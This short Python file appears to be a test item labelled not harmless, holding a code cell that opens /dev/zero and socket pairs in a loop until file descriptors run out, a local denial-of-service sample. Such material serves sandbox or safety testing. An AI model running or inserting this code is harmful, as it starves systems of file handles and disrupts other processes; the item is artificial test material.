"""Files are opened until no more can be, so that nothing else can be opened."""

HARMLESS = False
FLAW, TRICK = "V8", "none"
CELLS = {
    "count": """import os, socket
kept = []
while len(kept) < 100_000:
    try:
        kept.append(open("/dev/zero"))
        kept += socket.socketpair()
    except OSError:
        break
def count(n): return open("/dev/null").fileno()"""
}
